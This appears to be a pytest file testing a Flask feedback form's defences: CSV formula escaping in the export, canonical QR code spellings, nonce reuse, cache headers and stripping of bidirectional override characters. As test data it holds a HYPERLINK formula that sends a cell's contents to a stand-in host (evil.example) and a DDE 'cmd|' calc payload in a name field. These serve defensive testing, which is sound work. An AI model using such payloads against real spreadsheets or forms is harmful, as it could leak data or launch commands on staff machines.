"""What an attacker can do with the public feedback form and the handlers' export:
formulas in the CSV, reused nonces, alternative spellings of QR codes, bidi overrides."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient

from signage_server.feedback import codes
from tests.conftest import Demo
from tests.http.feedback import ORDINARY
from tests.http.feedback import case_of
from tests.http.feedback import item_code
from tests.http.feedback import published_item
from tests.http.feedback import receipt_of
from tests.http.feedback import submit

#: What spreadsheet programs take for the start of a formula (the form already strips a
#: leading tab or line break: ``tests/unit/web/test_spreadsheet.py`` covers those).
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]


def _export(app: Flask, demo: Demo, user: str = "jiyi01_handler") -> list[list[str]]:
    web = app.test_client()
    demo.login(web, user)
    response = web.get("/feedback/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_every_cell_of_the_export_is_formula_safe(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    items = {
        c: published_item(
            client, demo, category="service", catalog_entry="MZ-01", title=c + "SUM(1+1)村务公开"
        )
        for c in "=+-@"
    }
    for n, trigger in enumerate(TRIGGERS):
        item = items[trigger] if trigger in items else items["="]
        receipt_of(
            submit(
                client,
                item_code(app, item),
                text=trigger + 'HYPERLINK("http://evil.example/?"&A1,"点我")',
                name=trigger + "cmd|' /C calc'!A0",
                phone="13800138000",
                consent="y",
                address=f"10.0.1.{n}",
            )
        )
    header, *rows = _export(app, demo)
    assert len(rows) == len(TRIGGERS)
    for row in [header, *rows]:
        for cell in row:
            first = cell.lstrip(" \u3000")[:1]
            assert first not in set("=+-@\t\r＝＋－＠") or cell.startswith("'"), row
    titles = {row[4] for row in rows}
    assert titles == {"'" + c + "SUM(1+1)村务公开" for c in "=+-@"}
    texts = {row[7] for row in rows}
    assert texts == {"'" + t + 'HYPERLINK("http://evil.example/?"&A1,"点我")' for t in TRIGGERS}
    submitters = {row[6] for row in rows}
    assert submitters == {"'" + t + "cmd|' /C calc'!A0 13800138000" for t in TRIGGERS}
    # Ordinary values stay usable: receipts, dates as the spreadsheet reads them.
    for row in rows:
        assert row[0][:1].isalnum()
        assert row[5] == "2026-11-23 09:00"


# --- one spelling per QR code ------------------------------------------------------------

BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def test_only_the_canonical_spelling_of_a_code_opens_the_form(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    item = published_item(client, demo)
    code = item_code(app, item)
    assert client.get(f"/f/{code}").status_code == 200
    assert client.get(f"/f/{code.lower()}").status_code == 200
    # The last character carries unused bits: its siblings decode to the same bytes.
    siblings = [
        code[:-1] + c
        for c in BASE32
        if c != code[-1] and codes.base64.b32decode(_padded(code[:-1] + c)) == _raw(code)
    ]
    assert siblings, "this code length has no unused bits: pick another"
    for n, spelling in enumerate(siblings):
        assert client.get(f"/f/{spelling}").status_code == 404, spelling
        assert submit(client, spelling, address=f"10.0.2.{n}").status_code == 404, spelling


def _padded(text: str) -> str:
    return text + "=" * (-len(text) % 8)


def _raw(code: str) -> bytes:
    return codes.base64.b32decode(_padded(code))


# --- nonces and caching ------------------------------------------------------------------


def test_a_reused_nonce_never_hides_another_submission(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    item = published_item(client, demo)
    code = item_code(app, item)
    nonce = "a1" * 16
    first = receipt_of(submit(client, code, nonce=nonce, text="第一位村民：修路的钱从哪里来？"))
    again = receipt_of(submit(client, code, nonce=nonce, text="第一位村民：修路的钱从哪里来？"))
    assert again == first  # the same form sent twice: one case
    other = receipt_of(
        submit(client, code, nonce=nonce, text="第二位村民：低保名单为什么没有公开？")
    )
    assert other != first
    named = receipt_of(
        submit(
            client,
            code,
            nonce=nonce,
            text="第一位村民：修路的钱从哪里来？",
            name="张三",
            consent="y",
            phone="13800138000",
        )
    )
    assert named not in (first, other)
    # And the second villager's own double send still gives their own receipt.
    assert (
        receipt_of(submit(client, code, nonce=nonce, text="第二位村民：低保名单为什么没有公开？"))
        == other
    )
    texts = {case_of(client, demo, "jiyi01_handler", r)["text"] for r in (first, other, named)}
    assert texts == {"第一位村民：修路的钱从哪里来？", "第二位村民：低保名单为什么没有公开？"}
    tracked = client.get(f"/f/track/{other}", headers={"Accept": "application/json"})
    assert tracked.get_json()["receipt"] == other


def test_public_pages_are_never_cached(app: Flask, client: FlaskClient, demo: Demo) -> None:
    item = published_item(client, demo)
    code = item_code(app, item)
    form = client.get(f"/f/{code}")
    assert form.status_code == 200
    assert form.headers["Cache-Control"] == "no-store"
    invalid = submit(client, code, text="", json=False)
    assert invalid.status_code == 400
    assert invalid.headers["Cache-Control"] == "no-store"
    receipt_page = submit(client, code, json=False)
    assert receipt_page.status_code == 201
    assert receipt_page.headers["Cache-Control"] == "no-store"
    receipt = receipt_page.get_data(as_text=True).split('id="receipt-code">')[1].split("<")[0]
    for url in (f"/f/track/{receipt}", "/f/track", f"/f/{code[:-2]}XX"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url
    assert client.get(f"/f/{code}/qr.svg").headers["Cache-Control"] == "public, max-age=86400"


# --- bidirectional overrides ---------------------------------------------------------------

RLO, LRO, PDF, RLI, PDI, LRM = "\u202e", "\u202d", "\u202c", "\u2067", "\u2069", "\u200e"
BIDI = (RLO, LRO, PDF, RLI, PDI, LRM, "\u202a", "\u202b", "\u2066", "\u2068", "\u200f", "\u061c")


def test_bidi_overrides_never_reach_handlers_pages(
    app: Flask, client: FlaskClient, demo: Demo
) -> None:
    item = published_item(client, demo, **ORDINARY)
    text = f"村主任{RLO}元0001付支{PDF}，请核实 {RLI}abc{PDI}{LRM}"
    receipt = receipt_of(
        submit(
            client,
            item_code(app, item),
            kind="question",
            text=text,
            name=f"王{RLO}五{LRO}",
            phone="13800138000",
            consent="y",
        )
    )
    web = app.test_client()
    demo.login(web, "jiyi01_handler")
    case = case_of(client, demo, "jiyi01_handler", receipt)
    assert case["text"] == "村主任元0001付支，请核实 abc"
    assert case["name"] == "王五"
    pages = {
        "case": web.get(f"/feedback/{case['id']}").get_data(as_text=True),
        "inbox": web.get("/feedback").get_data(as_text=True),
        "export": web.get("/feedback/export.csv").get_data(as_text=True),
        "track": client.get(f"/f/track/{receipt}").get_data(as_text=True),
    }
    for name, page in pages.items():
        assert not any(c in page for c in BIDI), name
    # User text is isolated from the page around it all the same.
    assert 'id="case-text" dir="auto"' in pages["case"]
    assert "<bdi>王五</bdi>" in pages["case"]
    assert '<td class="feedback-excerpt" dir="auto">' in pages["inbox"]
